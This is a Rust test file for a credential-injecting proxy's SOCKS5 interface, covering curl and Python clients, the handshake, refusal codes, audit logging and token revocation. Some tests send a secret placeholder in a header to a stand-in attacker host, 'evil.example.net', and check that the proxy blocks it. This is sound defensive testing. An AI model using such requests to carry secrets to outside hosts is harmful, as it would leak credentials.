//! SOCKS 5: the same tunnels by another way in, with the clients that people use.

use std::path::Path;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

use super::support::client::{exchange, tls_in};
use super::support::{CRM, EVIL, VALUE, World, reply, soon};

struct Socks {
    world: World,
    address: std::net::SocketAddr,
}

async fn socks(more: &str) -> Socks {
    let config = format!("[proxy]\nlisten = [\"127.0.0.1:0\"]\nsocks = [\"127.0.0.1:0\"]\n{more}");
    let world = World::with(&config, reply("200 OK", "", "ok")).await;
    let address = world.proxy.door("proxy-socks").await;
    Socks { world, address }
}

impl Socks {
    async fn curl(&self, user: &str, arguments: &[&str]) -> (bool, String) {
        let mut command = tokio::process::Command::new("curl");
        command
            .args(["-sS", "-g", "--socks5-hostname", &self.address.to_string(), "--cacert", "certs/ca.pem"])
            .args(arguments)
            .current_dir(self.world.proxy.path(""))
            .env_clear()
            .env("PATH", std::env::var_os("PATH").unwrap_or_default())
            .kill_on_drop(true);
        if !user.is_empty() {
            command.args(["--proxy-user", user]);
        }
        let output = soon(command.output()).await.expect("curl is there");
        let said = [output.stdout, output.stderr].concat();
        (output.status.success(), String::from_utf8_lossy(&said).into_owned())
    }

    /// A connection on which these bytes were said, each after its answer of so many bytes.
    async fn said(&self, parts: &[(&[u8], usize)]) -> (TcpStream, Vec<Vec<u8>>) {
        let mut stream = soon(TcpStream::connect(self.address)).await.expect("it listens");
        let mut answers = Vec::new();
        for (bytes, length) in parts {
            stream.write_all(bytes).await.expect("it reads");
            let mut answer = vec![0; *length];
            soon(stream.read_exact(&mut answer)).await.expect("an answer");
            answers.push(answer);
        }
        (stream, answers)
    }

    /// The reply code to a request, by somebody who needs no token.
    async fn reply(&self, request: &[u8]) -> u8 {
        let (_, answers) = self.said(&[(&[5, 1, 0], 2), (request, 10)]).await;
        answers[1][1]
    }
}

/// CONNECT to a name.
fn named(host: &str, port: u16) -> Vec<u8> {
    let length = u8::try_from(host.len()).expect("short");
    [&[5, 1, 0, 3, length], host.as_bytes(), &port.to_be_bytes()].concat()
}

#[tokio::test]
async fn curl_goes_through_with_a_token_in_tls_and_in_the_clear() {
    let socks = socks("").await;
    let token = socks.world.proxy.must(&["runner", "create", "billing"], "").await;
    let user = format!("billing:{}", token.trim());
    let url = format!("https://{CRM}/x");
    let header = ["-H", "X: {secrets.crm.apiKey}"];
    let (passed, said) = socks.curl(&user, &[&url, header[0], header[1]]).await;
    assert!(passed && said.ends_with("ok"), "{said}");
    assert_eq!(socks.world.crm.only().field("x"), VALUE);
    let (passed, said) = socks.curl(&user, &["http://plain.crm.example.com/y", header[0], header[1]]).await;
    assert!(passed && said.ends_with("ok"), "{said}");
    assert_eq!(socks.world.crm_plain.only().field("x"), VALUE);
    let evil = format!("https://{EVIL}/");
    let (_, said) = socks.curl(&user, &[&evil, header[0], header[1]]).await;
    assert!(said.contains("domain_restricted"), "refused inside: {said}");
    for wrong in ["billing:srt_wrong", ""] {
        let (passed, said) = socks.curl(wrong, &[&url]).await;
        assert!(!passed, "{wrong}: {said}");
    }
    socks.world.proxy.logged("runner_unauthenticated").await;
    assert_eq!((socks.world.crm.received().len(), socks.world.evil.connections()), (1, 0));
}

const PYTHON: &str = r#"
import sys, requests
proxy = "socks5h://billing:" + sys.argv[2] + "@" + sys.argv[1]
client = requests.Session()
client.proxies = {"http": proxy, "https": proxy}
client.verify = "certs/ca.pem"
ref = "{secrets.crm.apiKey}"
r = client.post("https://api.crm.example.com/v1", json={"k": ref}, headers={"X": ref})
assert r.status_code == 200, r.text
r = client.get("https://evil.example.net/", headers={"X": ref})
assert r.status_code == 403 and r.json()["code"] == "domain_restricted", r.text
"#;

#[tokio::test]
async fn python_goes_through_with_pysocks() {
    let socks = socks("").await;
    let token = socks.world.proxy.must(&["runner", "create", "billing"], "").await;
    let python = Path::new(env!("CARGO_MANIFEST_DIR")).join("target/test-tools/python/bin/python");
    let mut command = tokio::process::Command::new(python);
    let address = socks.address.to_string();
    let home = socks.world.proxy.path("");
    command.args(["-c", PYTHON, &address, token.trim()]).current_dir(home).env_clear().kill_on_drop(true);
    let output = soon(command.output()).await.expect("run scripts/test-tools, as `make test` does");
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    let got = socks.world.crm.only();
    assert_eq!((got.field("x"), got.text()), (VALUE, format!("{{\"k\": \"{VALUE}\"}}")));
    assert_eq!(socks.world.evil.connections(), 0);
}

#[tokio::test]
async fn what_is_refused_before_the_tunnel_has_a_reply_code_and_an_audit_line() {
    let closed = {
        let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("loopback");
        listener.local_addr().expect("bound").port()
    };
    let pass =
        "[intercept]\npass_through = [\"10.0.0.1\", \"127.0.0.1\", \"nowhere.invalid\"]\n[egress]\nallow = [\"127.0.0.0/8\"]\n";
    let config = format!("[proxy]\nlisten = [\"127.0.0.1:0\"]\nsocks = [\"127.0.0.1:0\"]\n{pass}");
    let proxy = super::support::Proxy::start(tempfile::tempdir().expect("a directory"), &config).await;
    let address = proxy.door("proxy-socks").await;
    let origin = || super::support::Origin::plain(reply("200 OK", "", "ok"));
    let world = World { crm: origin().await, crm_plain: origin().await, evil: origin().await, proxy };
    let socks = Socks { world, address };
    let [high, low] = closed.to_be_bytes();
    let tooth = socks.address.port().to_be_bytes();
    for (request, code, word) in [
        (vec![5, 1, 0, 1, 10, 0, 0, 1, 1, 187], 2, "target_denied"),
        (vec![5, 1, 0, 1, 127, 0, 0, 1, tooth[0], tooth[1]], 2, "target_denied"),
        (named("nowhere.invalid", 443), 4, "upstream_unresolvable"),
        (vec![5, 1, 0, 1, 127, 0, 0, 1, high, low], 5, "upstream_refused"),
        (named("{secrets.crm.apiKey}", 443), 2, "secret_in_authority"),
        (named("a..b", 443), 2, "malformed_request"),
        (named("example.com", 0), 2, "malformed_request"),
        (named("0x7f.1", 80), 2, "malformed_request"),
        (vec![5, 2, 0, 1, 10, 0, 0, 1, 1, 187], 7, "malformed_request"),
        (vec![5, 3, 0, 1, 10, 0, 0, 1, 1, 187], 7, "malformed_request"),
        (vec![5, 1, 0, 9], 8, "malformed_request"),
    ] {
        assert_eq!(socks.reply(&request).await, code, "{request:?} {word}");
        let line = socks.world.proxy.logged(word).await;
        assert!(line.contains("subrosa::audit"), "{line}");
    }
}

#[tokio::test]
async fn the_greeting_is_answered_as_the_rules_for_runners_say() {
    let socks = socks("").await;
    let token = socks.world.proxy.must(&["runner", "create", "billing"], "").await;
    let token = token.trim();
    let login = |user: &str, password: &str| {
        let mut message = vec![1];
        for text in [user, password] {
            message.push(u8::try_from(text.len()).expect("short"));
            message.extend_from_slice(text.as_bytes());
        }
        message
    };
    for (parts, answers) in [
        (vec![(vec![5, 1, 0], 2)], vec![vec![5, 0xff]]),
        (vec![(vec![5, 1, 1], 2)], vec![vec![5, 0xff]]),
        (vec![(vec![5, 3, 0, 1, 2], 2), (login("billing", token), 2)], vec![vec![5, 2], vec![1, 0]]),
        (vec![(vec![5, 1, 2], 2), (login(token, ""), 2)], vec![vec![5, 2], vec![1, 0]]),
        (vec![(vec![5, 2, 0, 2], 2), (login("", ""), 2)], vec![vec![5, 2], vec![1, 1]]),
        (vec![(vec![5, 2, 0, 2], 2), (login("billing", "x"), 2)], vec![vec![5, 2], vec![1, 1]]),
    ] {
        let borrowed: Vec<(&[u8], usize)> = parts.iter().map(|(bytes, length)| (&bytes[..], *length)).collect();
        assert_eq!(socks.said(&borrowed).await.1, answers, "{parts:?}");
    }
    // What is no SOCKS 5 is not answered at all.
    for bytes in [&b"\x04\x01\x01\xbb\x01\x02\x03\x04\0"[..], b"GET / HTTP/1.1\r\n\r\n"] {
        let (mut stream, _) = socks.said(&[(bytes, 0)]).await;
        let mut said = Vec::new();
        let _ = soon(stream.read_to_end(&mut said)).await;
        assert_eq!(said, b"");
    }
    assert!(!socks.world.proxy.log().contains(token));
}

#[tokio::test]
async fn a_tunnel_by_address_goes_to_that_address_and_sni_must_agree() {
    let socks = socks("").await;
    let request = [5, 1, 0, 1, 1, 2, 3, 4, 1, 187];
    let (stream, answers) = socks.said(&[(&[5, 1, 0], 2), (&request, 10)]).await;
    assert_eq!(answers[1], [5, 0, 0, 1, 0, 0, 0, 0, 0, 0]);
    let mut inside = tls_in(stream, CRM, &socks.world.ca()).await.expect("a leaf for the name asked for");
    let response = exchange(&mut inside, &format!("GET / HTTP/1.1\r\nHost: {CRM}\r\n\r\n")).await;
    assert_eq!(response.refusal(), "misdirected");
    socks.world.untouched();
}

#[tokio::test]
async fn a_passed_through_server_may_speak_first() {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.expect("loopback");
    let port = listener.local_addr().expect("bound").port();
    tokio::spawn(async move {
        while let Ok((mut stream, _)) = listener.accept().await {
            let _ = stream.write_all(b"220 mail.example.com ESMTP\r\n").await;
            let _ = stream.read(&mut [0; 64]).await;
        }
    });
    let more = "[intercept]\npass_through = [\"mail.example.com\"]\n";
    let config = format!(
        "[proxy]\nlisten = [\"127.0.0.1:0\"]\nsocks = [\"127.0.0.1:0\"]\n{more}[egress.resolve]\n\"mail.example.com\" = \"127.0.0.1:{port}\"\n"
    );
    let proxy = super::support::Proxy::start(tempfile::tempdir().expect("a directory"), &config).await;
    let mut stream = soon(TcpStream::connect(proxy.door("proxy-socks").await)).await.expect("it listens");
    stream.write_all(&[5, 1, 0]).await.expect("sent");
    stream.read_exact(&mut [0; 2]).await.expect("a method");
    stream.write_all(&named("mail.example.com", 25)).await.expect("sent");
    let mut said = vec![0; 10 + 28];
    soon(stream.read_exact(&mut said)).await.expect("a reply and the banner");
    assert_eq!(&said[10..], b"220 mail.example.com ESMTP\r\n");
}

#[tokio::test]
async fn a_revocation_rules_open_tunnels_of_this_door_too() {
    let socks = socks("").await;
    let token = socks.world.proxy.must(&["runner", "create", "billing"], "").await;
    let token = token.trim();
    let login = [&[1, 7][..], b"billing", &[u8::try_from(token.len()).expect("short")], token.as_bytes()].concat();
    let (mut stream, _) = socks.said(&[(&[5, 1, 2], 2), (&login, 2), (&named("plain.crm.example.com", 80), 10)]).await;
    let request = "GET / HTTP/1.1\r\nHost: plain.crm.example.com\r\n\r\n";
    assert_eq!(exchange(&mut stream, request).await.text(), "ok");
    socks.world.proxy.must(&["runner", "revoke", "billing"], "").await;
    assert_eq!(exchange(&mut stream, request).await.refusal(), "runner_unauthenticated");
}
